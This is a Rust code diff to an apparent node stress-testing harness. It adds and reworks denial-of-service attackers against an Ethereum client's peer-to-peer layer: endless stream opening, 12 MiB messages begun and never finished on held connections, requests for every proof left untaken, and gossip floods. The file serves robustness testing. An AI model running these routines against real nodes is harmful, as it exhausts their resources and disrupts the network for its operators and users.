@@ -1,7 +1,7 @@
 //! The attackers: bare libp2p peers that do one thing as fast as they can.
 
 use crate::node::{Failure, random_bytes, root};
-use crate::records;
+use crate::{records, takers};
 use assay_network::{PeerStatus, enr::Enr, framing::encode_request, rpc::Protocol as Requests};
 use assay_types::{
     Epoch, ExecutionProof, ExecutionProofStatus, ForkDigest, PublicInput, Root, SignatureBytes,
@@ -17,7 +17,7 @@ use libp2p::{
 };
 use std::{
     sync::{
-        Arc,
+        Arc, Mutex,
         atomic::{AtomicU32, AtomicU64, AtomicUsize, Ordering},
     },
     time::Duration,
@@ -25,8 +25,9 @@ use std::{
 
 /// Bytes of a false proof.
 const PROOF_BYTES: usize = 1 << 20;
-/// Bytes of a message that is begun and never ended.
-const BEGUN_BYTES: usize = 4 << 20;
+/// Bytes that are sent of a message that is begun and never ended: all but its last, of the largest that eth2's text
+/// lets an RPC be.
+const BEGUN_BYTES: usize = 12 << 20;
 /// What a new identity waits after the last was cut off.
 const PAUSE: Duration = Duration::from_millis(500);
 /// Time to be let in and to see the topic.
@@ -45,8 +46,10 @@ pub(crate) enum Attack {
     NoProof,
     /// As many streams as can be opened.
     Streams,
-    /// Messages of which most comes, and never the end.
+    /// Messages of which all but the end comes, each on a connection of its own that stays.
     Unfinished,
+    /// Requests for every proof, and none of them taken.
+    Takers,
     /// Statuses that were true once, the older the later.
     OldStatus,
     /// Records that do not fit, and packets that are none, over discovery.
@@ -54,13 +57,14 @@ pub(crate) enum Attack {
 }
 
 impl Attack {
-    pub(crate) const ALL: [Self; 8] = [
+    pub(crate) const ALL: [Self; 9] = [
         Self::UnknownPayloads,
         Self::UnknownValidators,
         Self::NoSnappy,
         Self::NoProof,
         Self::Streams,
         Self::Unfinished,
+        Self::Takers,
         Self::OldStatus,
         Self::WrongRecords,
     ];
@@ -73,6 +77,8 @@ pub(crate) struct Tally {
     pub(crate) bytes: AtomicU64,
     pub(crate) done: [AtomicU64; Attack::ALL.len()],
     pub(crate) next: AtomicU32,
+    /// Ids of proofs, as they were announced.
+    pub(crate) ids: Mutex<Vec<Vec<u8>>>,
 }
 
 /// Attackers at work, until it is dropped.
@@ -112,6 +118,10 @@ pub(crate) fn start(victim: &str, record: &str, each: usize) -> Result<Attackers
                     // Being cut off is what it is here for.
                     let _ = match attack {
                         Attack::WrongRecords => records::live(&record, &tally).await,
+                        Attack::Takers => match address.iter().last() {
+                            Some(Protocol::P2p(victim)) => takers::live(&address, victim, &tally).await,
+                            _ => Ok(()),
+                        },
                         _ => live(attack, &address, &tally).await,
                     };
                     tokio::time::sleep(PAUSE).await;
@@ -156,7 +166,8 @@ async fn live(attack: Attack, address: &Multiaddr, tally: &Tally) -> Result<(), 
     let topic = enter(&mut swarm).await?;
     match attack {
         Attack::OldStatus => statuses(swarm, victim, tally).await,
-        Attack::Streams | Attack::Unfinished => streams(attack, swarm, victim, tally).await,
+        Attack::Streams => streams(swarm, victim, tally).await,
+        Attack::Unfinished => unfinished(swarm, victim, tally).await,
         _ => flood(attack, swarm, topic, tally).await,
     }
 }
@@ -246,44 +257,59 @@ fn message(attack: Attack, n: u32) -> Vec<u8> {
     compress(&proof.to_ssz_bytes())
 }
 
-/// Opens streams without end: idle ones, or ones with most of a message.
-async fn streams(
-    attack: Attack,
-    mut swarm: Swarm<Behaviour>,
-    victim: PeerId,
-    tally: &Tally,
-) -> Result<(), Failure> {
+/// Opens streams without end.
+async fn streams(mut swarm: Swarm<Behaviour>, victim: PeerId, tally: &Tally) -> Result<(), Failure> {
     let mut control = swarm.behaviour().streams.new_control();
     let opening = async {
         let mut open = Vec::new();
         for n in 0u64.. {
             // Gossip's own name, so that it is taken; now and then another.
-            let name = if attack == Attack::Unfinished || n % 4 != 0 {
+            let name = if n % 4 != 0 {
                 "/meshsub/1.1.0"
             } else {
                 "/eth2/beacon_chain/req/execution_proofs_by_range/1/ssz_snappy"
             };
-            tally.done[attack as usize].fetch_add(1, Ordering::Relaxed);
+            tally.done[Attack::Streams as usize].fetch_add(1, Ordering::Relaxed);
             match control.open_stream(victim, StreamProtocol::new(name)).await {
-                Ok(mut stream) => {
-                    if attack == Attack::Unfinished {
-                        let mut begun = vec![0x80, 0x80, 0x80, 0x02];
-                        begun.extend(random_bytes(1, BEGUN_BYTES - 4096));
-                        let sent =
-                            tokio::time::timeout(Duration::from_secs(5), stream.write_all(&begun)).await;
-                        if matches!(sent, Ok(Ok(()))) {
-                            tally.bytes.fetch_add(begun.len() as u64, Ordering::Relaxed);
-                        }
-                        // A byte now and then, so that it looks alive.
-                        tokio::time::sleep(Duration::from_millis(500)).await;
-                    }
-                    open.push(stream);
-                }
+                Ok(stream) => open.push(stream),
                 Err(_) => tokio::time::sleep(Duration::from_millis(5)).await,
             }
         }
     };
-    let events = async {
+    until_closed(&mut swarm, opening).await;
+    Ok(())
+}
+
+/// Begins one message, and stays.
+async fn unfinished(mut swarm: Swarm<Behaviour>, victim: PeerId, tally: &Tally) -> Result<(), Failure> {
+    let mut control = swarm.behaviour().streams.new_control();
+    let staying = async {
+        let name = StreamProtocol::new("/meshsub/1.1.0");
+        let Ok(mut stream) = control.open_stream(victim, name).await else {
+            return;
+        };
+        tally.done[Attack::Unfinished as usize].fetch_add(1, Ordering::Relaxed);
+        // Its length; a varint of 12 MiB.
+        if stream.write_all(&[0x80, 0x80, 0x80, 0x06]).await.is_err() {
+            return;
+        }
+        let begun = random_bytes(1, BEGUN_BYTES - 1);
+        for piece in begun.chunks(1 << 16) {
+            if stream.write_all(piece).await.is_err() {
+                return;
+            }
+            tally.bytes.fetch_add(piece.len() as u64, Ordering::Relaxed);
+        }
+        let _ = stream.flush().await;
+        drop(begun);
+        std::future::pending::<()>().await;
+    };
+    until_closed(&mut swarm, staying).await;
+    Ok(())
+}
+
+async fn until_closed(swarm: &mut Swarm<Behaviour>, work: impl Future<Output = ()>) {
+    let closed = async {
         loop {
             if let SwarmEvent::ConnectionClosed { .. } = swarm.select_next_some().await {
                 return;
@@ -291,8 +317,8 @@ async fn streams(
         }
     };
     tokio::select! {
-        () = events => Ok(()),
-        () = opening => Ok(()),
+        () = closed => {}
+        () = work => {}
     }
 }
 
@@ -339,15 +365,6 @@ async fn statuses(mut swarm: Swarm<Behaviour>, victim: PeerId, tally: &Tally) ->
             }
         }
     };
-    let events = async {
-        loop {
-            if let SwarmEvent::ConnectionClosed { .. } = swarm.select_next_some().await {
-                return;
-            }
-        }
-    };
-    tokio::select! {
-        () = events => Ok(()),
-        () = telling => Ok(()),
-    }
+    until_closed(&mut swarm, telling).await;
+    Ok(())
 }
